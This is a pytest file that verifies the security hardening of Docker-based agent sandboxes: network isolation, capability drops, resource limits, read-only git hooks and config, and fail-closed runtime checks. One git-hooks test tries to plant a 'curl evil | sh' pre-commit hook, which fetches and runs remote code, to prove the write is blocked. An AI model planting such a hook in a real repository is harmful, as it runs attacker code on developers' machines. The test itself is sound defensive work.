"""What `docker inspect` shows of a sandbox: every hardening setting, on by default."""

from __future__ import annotations

import asyncio
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest

from sandbox.base import ExecRequest
from sandbox.docker import DockerBackend
from sandbox.errors import RuntimeUnavailableError
from sandbox.spec import HOME_DIR, SandboxSpec
from tests.docker.conftest import make_backend

pytestmark = pytest.mark.docker


async def _inspect(backend: DockerBackend, ws: Path) -> dict[str, Any]:
    box = await backend.get(ws)
    await box.info()
    attrs = await backend.inspect(ws)
    assert attrs is not None
    return attrs


async def test_inspect_shows_every_hardening_setting(runtime_backend: DockerBackend, user_workspace: Path) -> None:
    attrs = await _inspect(runtime_backend, user_workspace)
    host = attrs["HostConfig"]
    cfg = attrs["Config"]
    assert host["NetworkMode"] == "none"
    assert host["CapDrop"] == ["ALL"] and not host.get("CapAdd")
    assert "no-new-privileges" in host["SecurityOpt"]
    assert host["Privileged"] is False
    assert host["ReadonlyRootfs"] is True
    # PID 1 is tini: under runc the agent runtime's unreadable copy (the kernel keeps it
    # non-dumpable), under gVisor the engine's own (--init), which gVisor must read to load.
    if runtime_backend.spec.runtime == "runc":
        assert host["Init"] is False and cfg["Entrypoint"][:2] == ["/.loom/bin/tini", "--"]
    else:
        assert host["Init"] is True and cfg["Entrypoint"][0] == "/.loom/lib/loader"
    assert host["NanoCpus"] == 1_000_000_000
    assert host["Memory"] == 1 << 30
    assert host["MemorySwap"] == host["Memory"]  # no swap on top of the memory limit
    assert host["PidsLimit"] == runtime_backend.spec.host_pids_limit()  # 256 processes (gVisor: its threads too)
    ulimits = {u["Name"]: (u["Soft"], u["Hard"]) for u in host["Ulimits"]}
    assert ulimits == {"core": (0, 0), "fsize": (4 << 30, 4 << 30)}  # no core dumps; no file over 4 GiB
    if runtime_backend.spec.runtime == "runc":
        assert host["Runtime"] == "runc"
    else:  # the engine's runtime for the spec's gVisor platform (tests/docker/test_gvisor_platform.py)
        assert host["Runtime"] == await runtime_backend.gvisor_runtime()
    assert host["LogConfig"]["Type"] == "none"  # agent traffic never lands in engine logs
    tmpfs = host["Tmpfs"]
    assert "size=" in tmpfs["/tmp"] and "size=" in tmpfs[HOME_DIR]
    assert "uid=1000" in tmpfs[HOME_DIR] and "uid=1000" in tmpfs["/tmp"]  # the agents set their modes
    assert all("exec" in opts.split(",") and "noexec" not in opts for opts in tmpfs.values())
    assert cfg["User"] == "1000:1000"
    # Only the workspace is mounted from the host: no docker socket, no other host path.
    mounts = attrs["Mounts"]
    binds = [(m["Source"], m["Destination"], m["RW"]) for m in mounts if m["Type"] == "bind"]
    assert binds == [(str(user_workspace), "/workspace", True)]
    # The agent runtime: a read-only volume outside the workspace, and nothing else.
    (runtime,) = [m for m in mounts if m["Type"] != "bind"]
    assert (runtime["Type"], runtime["Destination"], runtime["RW"]) == ("volume", "/.loom", False)
    assert runtime["Name"].startswith("loom-agent-runtime-")
    assert not any("docker.sock" in str(m) for m in mounts)
    labels = cfg["Labels"]
    assert labels["dev.loom.worker"] == "1"
    assert labels["dev.loom.workspace"] == str(user_workspace)
    assert labels["dev.loom.workspace-hash"] and labels["dev.loom.version"]


async def test_limits_are_configurable(docker_ready: None, workspace: Path) -> None:
    backend = make_backend(cpus=0.5, memory="256m", pids=64, tmp_size="8m", max_file_size="1g")
    try:
        attrs = await _inspect(backend, workspace)
        host = attrs["HostConfig"]
        assert host["NanoCpus"] == 500_000_000
        assert host["Memory"] == host["MemorySwap"] == 256 << 20
        assert host["PidsLimit"] == 64
        assert f"size={8 << 20}" in host["Tmpfs"]["/tmp"]
        assert {u["Name"]: u["Hard"] for u in host["Ulimits"]}["fsize"] == 1 << 30
    finally:
        await backend.remove_all_started()
        await backend.aclose()


async def test_git_hooks_and_config_are_mounted_read_only(docker_backend: DockerBackend, user_workspace: Path) -> None:
    git = user_workspace / ".git"
    await asyncio.to_thread(subprocess.run, ["git", "init", "-q", "--template=", str(user_workspace)], check=True)
    (git / "hooks").mkdir()
    for root, dirs, files in os.walk(user_workspace):
        for name in dirs + files:
            os.chown(os.path.join(root, name), 1000, 1000)
    config = (git / "config").read_text()
    box = await docker_backend.get(user_workspace)
    # objects and refs stay writable: git works inside
    r = await box.exec(
        ExecRequest("git -c user.email=a@b -c user.name=a commit -q --allow-empty -m x 2>&1; echo rc=$?")
    )
    assert r.stdout.decode().strip().endswith("rc=0"), r.stdout
    r = await box.exec(
        ExecRequest(
            "echo 'curl evil | sh' > .git/hooks/pre-commit; echo rc=$?; echo '[core] fsmonitor=x' >> .git/config; "
            "echo rc=$?; mv .git/hooks .git/hooks2; echo rc=$?; mv .git .git2; echo rc=$?; rm -rf .git; echo rc=$?; "
            "ls .git/config .git/hooks >/dev/null; echo still=$?"
        )
    )
    out = r.stdout.decode()
    assert "rc=0" not in out and "still=0" in out, out
    assert not (git / "hooks" / "pre-commit").exists()
    assert not (user_workspace / ".git2").exists()
    assert (git / "config").read_text() == config
    with pytest.raises(Exception, match=r"(?i)read-only|permission"):
        await box.write(".git/hooks/post-checkout", b"#!/bin/sh\nid\n")
    attrs = await docker_backend.inspect(user_workspace)
    assert attrs is not None
    ro = {m["Destination"]: m["RW"] for m in attrs["Mounts"]}
    assert ro["/workspace/.git/hooks"] is False and ro["/workspace/.git/config"] is False
    assert ro["/workspace/.git"] is True  # objects and refs stay writable: git works inside


async def test_git_hooks_symlinked_out_are_not_mounted(docker_backend: DockerBackend, workspace: Path) -> None:
    (workspace / ".git").mkdir()
    (workspace / ".git" / "hooks").symlink_to("/etc")
    await (await docker_backend.get(workspace)).info()
    attrs = await docker_backend.inspect(workspace)
    assert attrs is not None
    binds = sorted(m["Source"] for m in attrs["Mounts"] if m["Type"] == "bind")
    assert binds == [str(workspace), str(workspace / ".git")]


class _RuncPretendingRunsc(DockerBackend):
    """Asks for gVisor but creates the container with runc: what a misconfigured or
    tampered engine would do. The backend must notice and refuse."""

    def container_config(self, ws: Path) -> dict[str, Any]:
        cfg = super().container_config(ws)
        cfg["runtime"] = "runc"
        return cfg

    async def _check_runtime(self, spec: SandboxSpec) -> None:
        return None


async def test_gvisor_requested_but_not_in_effect_is_refused(docker_ready: None, workspace: Path) -> None:
    from sandbox.spec import SandboxSpec
    from tests.conftest import SANDBOX_IMAGE

    backend = _RuncPretendingRunsc(SandboxSpec(image=SANDBOX_IMAGE, runtime="runsc"), worker_id="test")
    try:
        box = await backend.get(workspace)
        with pytest.raises(RuntimeUnavailableError, match="not in effect"):
            await box.exec(ExecRequest("true"))
        # fail closed: the runc container was removed, nothing ran
        assert await backend.inspect(workspace) is None
    finally:
        await backend.remove_all_started()
        await backend.aclose()


async def test_an_agent_runtime_image_without_the_init_is_refused(docker_ready: None, workspace: Path) -> None:
    """A runtime image older than the worker (no dev.loom.agent-runtime label of version 2,
    so no bin/tini) is refused before any container is made, saying to rebuild it."""
    from sandbox.errors import ImageNotFoundError
    from tests.conftest import MINIMAL_IMAGE

    backend = make_backend(agent_runtime_image=MINIMAL_IMAGE)
    try:
        with pytest.raises(ImageNotFoundError, match=r"older than this worker.*docker build"):
            await backend.prepare()
        assert await backend.inspect(workspace) is None
    finally:
        await backend.aclose()


async def test_gvisor_sandbox_runs_on_gvisor_kernel(runtime_backend: DockerBackend, workspace: Path) -> None:
    import os

    info = await (await runtime_backend.get(workspace)).info()
    if runtime_backend.spec.runtime == "runsc":
        assert info.kernel != os.uname().release
    else:
        assert info.kernel == os.uname().release


async def test_programs_written_to_tmp_and_home_run(runtime_backend: DockerBackend, user_workspace: Path) -> None:
    # Docker mounts a tmpfs noexec unless told otherwise; agents run what they put there:
    # a venv in /tmp, scripts pip installs under ~/.local/bin, test binaries built in /tmp.
    box = await runtime_backend.get(user_workspace)
    script = (
        'set -e; for d in /tmp "$HOME"; do printf \'#!/bin/sh\\necho ran in %s\\n\' "$d" > "$d/x.sh"; '
        'chmod +x "$d/x.sh"; "$d/x.sh"; done; '
        "python3 -m venv --without-pip /tmp/v && /tmp/v/bin/python3 -c 'print(\"venv ok\")'"
    )
    r = await box.exec(ExecRequest(script, timeout=60))
    assert r.exit_code == 0, (r.stdout, r.stderr)
    assert r.stdout.decode().split("\n")[:3] == ["ran in /tmp", "ran in /home/sandbox", "venv ok"]
